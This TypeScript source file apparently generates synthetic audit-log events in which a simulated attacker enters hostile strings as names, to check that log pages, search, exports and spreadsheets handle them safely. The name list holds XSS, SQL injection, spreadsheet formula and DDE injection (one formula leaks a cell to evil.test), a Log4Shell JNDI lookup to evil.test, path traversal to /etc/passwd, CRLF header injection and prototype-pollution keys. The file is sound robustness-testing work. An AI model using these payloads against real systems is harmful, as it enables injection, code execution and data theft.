import type { JsonObject } from '@daybook/core/model'
import type { Day } from '../days/workday.ts'
import { clock } from '../machines/machine.ts'
import { attackerAgents, strangerAddresses } from '../places.ts'
import { actorOf, type Presence, type Scene, type Telling, tell } from '../scene.ts'

/**
 * What people and robots type where a name is asked for. Everything that reads a log has to survive it: pages, search,
 * exports, spreadsheets.
 */
const names: readonly string[] = [
  '<script>alert("daybook")</script>',
  '"><img src=x onerror=alert(1)>',
  "Robert'); DROP TABLE events;--",
  '=HYPERLINK("https://evil.test/?q="&A1,"Click for a refund")',
  '+491234*cmd|’/C calc’!A0',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  'حملة الخريف – تخفيضات ٢٠٪',
  'Rechnung_\u202Efdp.exe',
  'ﷺ Zalgo h̸̡̪̯͉͔e̷͖̞͛̓͋ c̴̢͙̈́o̴̧̻͂m̶̤͋ë̵́ͅs',
  '👩‍👩‍👧‍👦 Familie 🏳️‍🌈 & Söhne 🇩🇪',
  'line one\nline two\r\nline three',
  'Anführungszeichen „so“, "so", \'so\' und `so`',
  '../../../../etc/passwd',
  '\u0024{jndi:ldap://evil.test/a}',
  '{{constructor.constructor("return 1")()}}',
  '%00%0d%0aSet-Cookie:%20a=b',
  'null',
  'undefined',
  'NaN',
  '0',
  '   ',
  'Zero\u200Bwidth\u200Dletters',
  'İstanbul ıslak ŞIK straße STRASSE',
  'e\u0301 and \u00e9 are one letter',
  'nul\u0000byte and half a pair \uD83D',
  '北京办事处（测试）',
  'עברית וערבית: العربية',
  'ก็ที่นี่ไม่มีช่องว่างระหว่างคำ',
  `Very ${'long '.repeat(70)}name`,
  'W'.repeat(400),
]

const firstOffset = -84

/** One a day, in turn over the tenants, by whoever is at hand. */
export function planHostile(day: Day): void {
  const { company } = day
  const index = day.day - company.lastDay - firstOffset
  const name = names[Math.floor(index / 2)]
  const tenants = ['acme', 'globex', 'initech'] as const
  if (name === undefined || index % 2 !== 0 || tenants[(index / 2) % 3] !== company.log) return
  const at = clock(day, 10 * 60 + 17)
  day.plan({
    at,
    run: () => spell({ company, random: company.random, at, by: typist(day), post: day.post }, name, index),
  })
}

function typist({ company: { people, random } }: Day): Presence {
  return {
    actor: actorOf(random.pick(people)),
    origin: {
      ip: random.pick(strangerAddresses),
      userAgent: `${attackerAgents.spray} "quoted" <b>`,
      country: 'XX',
      channel: 'api',
    },
  }
}

function spell(scene: Scene, name: string, index: number): void {
  const id = `x_${scene.random.hex(8)}`
  const tellings: Telling[] = [
    {
      action: 'campaign.created',
      module: 'campaigns',
      target: { type: 'campaign', id, name },
      after: { name, note: name },
    },
    {
      action: 'contact.updated',
      module: 'contacts',
      target: { type: 'contact', id, name },
      before: { name: 'Plain' },
      after: { name },
    },
    {
      action: 'lead.imported',
      module: 'leads',
      target: { type: 'file', id, name },
      details: { [name.slice(0, 60)]: name },
      bulkImport: { fileId: name, line: 1 },
    },
    {
      action: 'ticket.created',
      module: 'tickets',
      target: { type: 'ticket', id, name },
      description: name,
      explanation: `${name}\n\n${name}`,
    },
  ]
  for (const telling of tellings.slice(index % 2, (index % 2) + 2)) tell(scene, telling)
  tell(scene, {
    action: `weird ${name.slice(0, 40)}`,
    module: name.slice(0, 60),
    operation: name.slice(0, 60),
    target: { name },
    reason: name,
  })
  if (index % 8 === 0) tell(scene, { ...tellings[3], action: 'ticket.created', metadata: awkwardKeys() })
}

/** Keys that are methods of every object, and one that is an object's parent. */
function awkwardKeys(): JsonObject {
  return JSON.parse(
    '{"__proto__": {"admin": true}, "constructor": "x", "toString": null, "": "empty key", "a.b[0]": [[], {}]}',
  )
}
